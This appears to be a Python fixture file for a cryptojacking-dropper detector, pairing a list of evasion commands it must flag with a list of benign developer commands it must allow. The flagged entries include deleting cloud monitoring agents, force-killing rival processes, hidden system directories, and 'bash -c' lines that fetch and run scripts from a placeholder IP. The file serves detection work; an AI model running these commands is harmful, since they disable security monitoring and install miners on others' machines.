"""Classes of technique that cryptojacking droppers got past the guards (helper miners25).

Known misses of miners24 (its held-out part), fixed as classes with variants written here; then
one fresh held-out source, teshushu/BiBi (a c3pool/u8pool miner kit: mysqltcp.sh, delserver.sh,
logserver.sh, fu.sh, 99.sh ...), split off before any verdict, labelled, measured at first sight
and at the end, never tuned on (kept outside the repository, /work/realworld/miners25 on the
machine that measured it). The commands here are variants, not the measured lines:

- a monitoring agent's files deleted: Baidu's ``/opt/bcm``, Alibaba's cloud assistant
  (``assist-daemon``, ``aliyun-assist``);
- processes killed for talking to a registered domain of two labels (``kieuanilam.me``,
  ``zer0day.ru``); a bare relative program (``pkill -f ./ppp``) is not held: a developer stops
  ``./server`` the same way;
- a kill list: three programs or more killed by force in one script, each by its own name
  (``pgrep -f NAME | xargs -I % kill -9 %``, ``pkill -9 -f NAME``, ``killall -9 NAME``);
- a hidden directory made among the system's files (``mkdir -p /usr/local/games/.x``,
  ``/usr/share/fonts/.cache``, ``/.Xll``), or one inside another in a shared temporary directory;
- a program named by a downloader's variable saving what it fetches (``$DOWNLOADER $X > $F``) with
  no shell after it on the line;
- ``bash -c "…$(curl …)…"``: the nested code is read (held before; kept here as variants).
"""

from __future__ import annotations

HELD = {
    "a monitoring agent's files deleted": [
        "rm -rf /opt/bcm",
        "rm -fr /usr/local/share/assist-daemon",
        "rm -rf /usr/local/share/aliyun-assist",
    ],
    "processes talking to a two-label domain killed": [
        "ps aux | grep -v grep | grep 'pool-mine.me' | awk '{print $2}' | xargs -I % kill -9 %",
        "pkill -f badhost.ru",
        "ps auxf | grep -v grep | grep hashes.xyz | awk '{print $2}' | xargs kill -9",
    ],
    "a kill list": [
        "pkill -9 -f qxzvbnmt; pkill -9 -f plmokijn; pkill -9 -f wsxedcrf",
        "pgrep -f zqwmnbvx | xargs -I % kill -9 %\n"
        "pgrep -f lkjhgtre | xargs -I % kill -9 %\nkillall -9 hfinder",
        "ps aux | grep -v grep | grep 'yuiopas' | awk '{print $2}' | xargs kill -9; "
        "ps aux | grep -v grep | grep 'dfghjkq' | awk '{print $2}' | xargs kill -9; killall -9 zxcvq",
    ],
    "a hidden directory among the system's files": [
        "mkdir -p /usr/local/games/.cfg",
        "mkdir -p /usr/share/doc/.cache/x",
        "mkdir /var/tmp/.X25-unix/.rsync",
        "mkdir -p /.Xll",
        "echo 1 > /usr/share/pixmaps/.t/pid",
    ],
    "a downloader's variable saving a fetch": [
        "$DOWNLOADER $REMOTE_FILE > $LOCAL_FILE",
        '${WGET_CMD} "$SRC" -O "$DST"',
        "$CURL -fsSL http://198.51.100.12/k -o $TARGET",
    ],
    "nested code in bash -c": [
        'bash -c "cd /var/tmp; $(curl -fsSL http://198.51.100.12/s.sh)"',
        'sh -c "echo go && $(wget -qO- http://198.51.100.12/s)"',
    ],
}

ALLOWED = [
    "rm -rf ~/src/bcm",
    "rm -rf build/bcm2835",
    "ls /opt/bcm",
    "pkill -f app.js",
    "pkill -f socket.io",
    "pkill -f './server --port 3000'",
    "pkill -f ./server",
    "pkill -f ./myapp",
    "pkill -f ./node_modules/.bin/vite",
    "pkill -9 uvicorn; pkill -9 celery",
    "pkill -f uvicorn; pkill -f celery; pkill -f vite; pkill -f node",
    "kill -9 1234 5678 9012",
    "mkdir -p /usr/src/app/.next",
    "mkdir -p /tmp/.X11-unix",
    "mkdir -p /var/www/html/.well-known/acme-challenge",
    "mkdir -p /opt/app/.venv",
    "mkdir -p /tmp/build/.cache",
    "$CC main.c -o $BIN",
    "$CMD $ARGS > out.txt",
    "$PYTHON $SCRIPT > $LOG",
]
